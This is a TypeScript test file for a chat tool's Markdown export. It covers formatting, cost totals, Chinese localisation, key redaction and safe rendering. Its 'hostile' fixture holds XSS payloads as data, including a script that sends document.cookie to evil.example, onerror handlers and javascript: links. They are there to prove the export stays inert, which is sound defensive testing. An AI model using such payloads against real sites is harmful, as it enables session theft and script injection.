// Export a conversation as Markdown (issue 35 item 15): questions with their attachments, answers, an agent turn's
// tool calls with their results summarised, tokens and cost per answer, the total; Chinese through the bundle.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { conversationMarkdown, RESULT_SUMMARY_CHARS } from '../../../src/chat/store/exportMarkdown';
import { english, type Localizer } from '../../../src/shared/l10n';
import { redactKnownSecrets } from '../../../src/shared/secretRedaction';
import type { ChatMessage } from '../../../src/shared/protocol/chat';

const base = { status: 'complete' as const, createdAt: 0 };
const messages: ChatMessage[] = [
  {
    ...base,
    id: 'u1',
    role: 'user',
    text: 'Check @problems please',
    attachments: [{ id: 'a', kind: 'problems', path: 'problems', languageId: 'plaintext', text: 'x' }],
  },
  {
    ...base,
    id: 'a1',
    role: 'assistant',
    model: 'claude-demo-agent',
    text: 'Looking.\nAll fixed.',
    usage: {
      input: 1200,
      output: 80,
      cacheRead: 0,
      cacheWrite: 0,
      cost: { amount: 0.01, source: 'gateway', estimate: true },
    },
    agent: {
      turnId: 't1',
      steps: [],
      tools: [
        {
          id: 'c1',
          step: 1,
          name: 'read_file',
          summary: 'src/a.ts',
          status: 'done',
          result: `${'x'.repeat(500)}\nsecond line`,
          textAt: 9,
        },
        { id: 'c2', step: 2, name: 'run_command', summary: 'npm test', status: 'refused', note: 'Denied by you' },
      ],
    },
  },
  { ...base, id: 'u2', role: 'user', text: 'Thanks' },
  {
    ...base,
    id: 'a2',
    role: 'assistant',
    model: 'gpt-x',
    text: 'You are welcome.',
    usage: { input: 5, output: 3, cacheRead: 0, cacheWrite: 0 },
  },
];

describe('Export a conversation as Markdown', () => {
  it('questions, attachments, tool calls summarised, the final answer, tokens and cost, the total', () => {
    const md = conversationMarkdown({ title: 'Fix `the` tests\nnow', messages }, (t) => t);
    assert.match(md, /^# Fix 'the' tests now\n/);
    assert.match(md, /## You\n\nCheck @problems please\n\n\*Attached: `problems` \(problems\)\*/);
    assert.match(
      md,
      /## claude-demo-agent\n\nTool calls:\n\n- `read_file` src\/a\.ts \(done\): x{200}…\n- `run_command` npm test \(refused\): Denied by you/,
    );
    assert.doesNotMatch(md, /second line/, 'a result is summarised by its first line');
    assert.ok(!md.includes('x'.repeat(RESULT_SUMMARY_CHARS + 1)));
    assert.match(md, /\nAll fixed\.\n/, 'the answer after the last call');
    assert.match(md, /\*tokens: in 1,200 · out 80 · cost ≈0\.0100 \(estimate\)\*/);
    assert.match(md, /\*tokens: in 5 · out 3\*/);
    assert.match(md, /---\n\nTotal cost: ≈0\.0100 \(answers without a price left out\)\n$/);
  });

  it('in Chinese through the zh-cn bundle', () => {
    const zhBundle = JSON.parse(
      fs.readFileSync(path.join(__dirname, '..', '..', '..', 'l10n', 'bundle.l10n.zh-cn.json'), 'utf8'),
    ) as Record<string, string>;
    const zh: Localizer = { t: (m, ...args) => english.t(zhBundle[m] ?? m, ...args) };
    const md = conversationMarkdown({ title: '测试', messages }, (t) => t, zh);
    assert.match(md, /## 你\n/);
    assert.match(md, /工具调用：/);
    assert.match(md, /附件：/);
    assert.match(md, /总费用：≈0\.0100（未计入没有价格的回答）/);
  });
});

describe('Export a conversation as Markdown: nothing private, nothing live (issue 43 item 5)', () => {
  const KEY = 'gw-live-7f3a9c2e5b1d4f6a8c0e2b4d6f8a1c3e';
  const redact = (text: string) => redactKnownSecrets(text, [KEY]);
  const hostile: ChatMessage[] = [
    { ...base, id: 'u1', role: 'user', text: `my key is ${KEY}, <b>keep</b> it` },
    {
      ...base,
      id: 'a1',
      role: 'assistant',
      model: 'claude-demo-sonnet',
      text: [
        `Your key ${KEY} and base64 ${Buffer.from(`user:${KEY}`).toString('base64')}.`,
        '<script>fetch("https://evil.example/?k="+document.cookie)</script>',
        '<img src=x onerror="alert(1)"> and <!-- a comment --> and &lt;already&gt;',
        '[click me](javascript:alert(1)) and ![pic](JaVa\tScRiPt:alert(2)) and [ok](https://example.com/a)',
        '[ref]: javascript:alert(3)',
        'Inline `<span onclick="x">` stays code.',
        '```html',
        '<div onclick="alert(4)">code keeps its characters</div>',
        '```',
      ].join('\n'),
    },
  ];

  it('holds no form of a known key, as the stored files hold none', () => {
    const md = conversationMarkdown({ title: `Key ${KEY}`, messages: hostile }, redact);
    assert.ok(!md.includes(KEY), md);
    assert.ok(!md.includes(Buffer.from(`user:${KEY}`).toString('base64').slice(8, 30)), 'nor its base64');
    assert.match(md, /\[redacted\]/);
  });

  it('renders inert in Markdown viewers that pass raw HTML (marked, markdown-it with html on)', () => {
    const md = conversationMarkdown({ title: '<img src=x onerror=alert(5)>', messages: hostile }, redact);
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { marked } = require('marked') as { marked: { parse(md: string, o: { async: false }): string } };
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const MarkdownIt = require('markdown-it') as new (o: { html: boolean; linkify: boolean }) => {
      render(md: string): string;
    };
    for (const html of [marked.parse(md, { async: false }), new MarkdownIt({ html: true, linkify: true }).render(md)]) {
      assert.doesNotMatch(html, /<script|<img[^>]*onerror|<span onclick|<!--/i, html);
      assert.doesNotMatch(html, /href="\s*javascript:|src="\s*javascript:/i, html);
      assert.match(html, /href="https:\/\/example.com\/a"/, 'a web link stays a link');
      assert.match(
        html,
        /&lt;div onclick=&quot;alert\(4\)&quot;&gt;code keeps its characters/,
        'code shown as written',
      );
      assert.match(html, /&lt;script&gt;/, 'the script is shown as text');
    }
    assert.match(md, /^```html\n<div onclick="alert\(4\)">code keeps its characters<\/div>\n```$/m);
    assert.match(md, /`<span onclick="x">`/);
  });
});
